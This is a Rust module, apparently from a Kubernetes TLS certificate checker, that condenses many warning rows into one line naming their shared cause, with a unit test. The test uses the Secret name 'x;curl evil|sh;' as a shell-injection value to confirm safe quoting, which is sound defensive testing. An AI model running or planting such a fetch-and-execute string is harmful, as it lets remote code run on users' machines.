//! One cause, said once: where most of what is wrong has the same CA, Secret, class or controller behind it, one line says so.

use std::collections::HashMap;

use crate::{
    check::{
        Fact, Reason, finding,
        row::{Row, Status},
        words,
    },
    object::{Key, Kind},
    text::grouped,
};

use super::rows::Rows;

/// Below so many rows, the table says it.
const LEAST: usize = 10;

/// What several rows have in common.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Hash)]
enum Cause<'a> {
    Untrusted(&'a str),
    Incomplete(&'a str),
    Class(&'a str, Kind),
    Default(&'a str),
    Secret(&'a Key, Reason),
}

/// One line about the cause of most rows that are `warning` or worse; `None` where there is no such cause.
///
/// `9,812 of the 10,000 that are warning or critical have the same cause: CN=Corp Root is not trusted here; ...`
pub fn cause(rows: &Rows<'_>) -> Option<String> {
    // With the first row that has it: its commands reach what was read.
    let mut counts: HashMap<Cause<'_>, (usize, Row<'_>)> = HashMap::new();
    let mut wrong = 0;
    for row in rows.iter().filter(|row| row.status >= Status::Warning) {
        wrong += 1;
        // The worst comes first.
        let Some(worst) = row.findings.first() else { continue };
        let secret = || {
            let beside = worst.beside.as_deref().map(|beside| &beside.secret);
            beside.or(row.secret()).map(|key| Cause::Secret(key, worst.reason()))
        };
        let fact = match &worst.fact {
            // Where what is served is not trusted either, the CA is the cause.
            Fact::ServedUntrusted(served) if matches!(*served.why, Fact::UntrustedIssuer(_)) => &*served.why,
            other => other,
        };
        let found = match fact {
            Fact::UntrustedIssuer(finding::UntrustedIssuer { issuer, .. }) => Some(Cause::Untrusted(issuer)),
            Fact::MissingIntermediate(finding::MissingIntermediate { issuer, .. }) => Some(Cause::Incomplete(issuer)),
            Fact::IngressClassNotFound(finding::IngressClassNotFound { class, kind }) if !class.is_empty() => {
                Some(Cause::Class(class, *kind))
            }
            Fact::ControllerDefaultCertificate(finding::ControllerDefaultCertificate { controller }) => {
                Some(Cause::Default(controller))
            }
            _ => secret().filter(|_| !row.is_without_secrets()),
        };
        if let Some(found) = found {
            counts.entry(found).or_insert((0, row)).0 += 1;
        }
    }
    let (cause, (count, row)) = counts.into_iter().max_by_key(|(_, (count, _))| *count)?;
    if count < LEAST || count * 2 <= wrong {
        return None;
    }
    let why = match cause {
        Cause::Untrusted(issuer) => {
            format!("{issuer} is not trusted here; if it is yours: --ca-file FILE, or `trust:` in the settings")
        }
        Cause::Incomplete(issuer) => {
            format!("the intermediate {issuer} is not stored with them; store the whole chain that the CA gave")
        }
        Cause::Class(class, kind) => {
            let those = words::list_classes(&row, kind);
            format!("there is no class {class}; {those} lists the existing ones")
        }
        Cause::Default(controller) => {
            format!("{controller} made the certificate itself; store one from a CA in the Secrets that the routes name")
        }
        Cause::Secret(key, reason) => {
            let show = words::show_secret(&row, key);
            format!("{reason} of Secret {key}; {show} says more")
        }
    };
    let all = if count == wrong {
        format!("all {} rows", grouped(wrong))
    } else {
        format!("{} of the {} rows", grouped(count), grouped(wrong))
    };
    Some(format!("{all} that are warning or critical have the same cause: {why}"))
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::{check::Finding, report::fixtures::Shop};

    #[test]
    fn the_cause_of_most_is_said_once_with_what_to_do() {
        let shop = Shop::new();
        let row = shop.rows()[0];
        let untrusted = |issuer: &str| {
            [Finding::new(finding::UntrustedIssuer {
                issuer: issuer.into(),
                root_presented: false,
                namesake: false,
            })]
        };
        let (corp, other) = (untrusted("CN=Corp Root"), untrusted("CN=Other"));
        let expired = [Finding::new(finding::Expired { not_after: 0 })];
        let told = |parts: &[(&[Finding], usize)]| {
            let rows: Vec<Row<'_>> = parts
                .iter()
                .flat_map(|(findings, n)| {
                    std::iter::repeat_n(
                        Row {
                            findings,
                            status: Status::Critical,
                            ..row
                        },
                        *n,
                    )
                })
                .collect();
            cause(&rows.into())
        };
        assert_eq!(
            told(&[(&corp, 1812), (&other, 188)]).as_deref(),
            Some(
                "1,812 of the 2,000 rows that are warning or critical have the same cause: CN=Corp Root is not trusted here; \
                 if it is yours: --ca-file FILE, or `trust:` in the settings"
            )
        );
        let served = [Finding::new(finding::ServedUntrusted {
            address: "192.0.2.1:443".into(),
            why: Box::new(corp[0].fact.clone()),
        })];
        let told_of_served = told(&[(&served, 12)]).expect("one cause");
        assert!(
            told_of_served.contains("CN=Corp Root is not trusted here"),
            "{told_of_served}"
        );
        let secret = told(&[(&expired, 12)]).expect("one cause");
        assert!(
            secret.starts_with("all 12 rows that are warning or critical have the same cause: Expired of Secret shop/"),
            "{secret}"
        );
        // It is copied into a shell, and asks what this run has asked.
        let reach = crate::object::Reach {
            kubectl: " --context prod".into(),
            certs: " --context prod".into(),
            ..crate::object::Reach::default()
        };
        let hostile = [Key::new("shop", "x;curl evil|sh;")];
        let rows: Vec<Row<'_>> = std::iter::repeat_n(
            Row {
                findings: &expired,
                secrets: &hostile,
                status: Status::Critical,
                reach: &reach,
                ..row
            },
            10,
        )
        .collect();
        let told_of = cause(&rows.into()).expect("one cause");
        assert!(
            told_of.contains("`kubectl certs show 'secret/x;curl evil|sh;' -n shop --context prod`"),
            "{told_of}"
        );
        // Few rows, or several causes, are told by the table.
        assert_eq!(told(&[(&corp, 9)]), None);
        assert_eq!(told(&[(&corp, 50), (&other, 50)]), None);
        assert_eq!(told(&[]), None);
    }
}
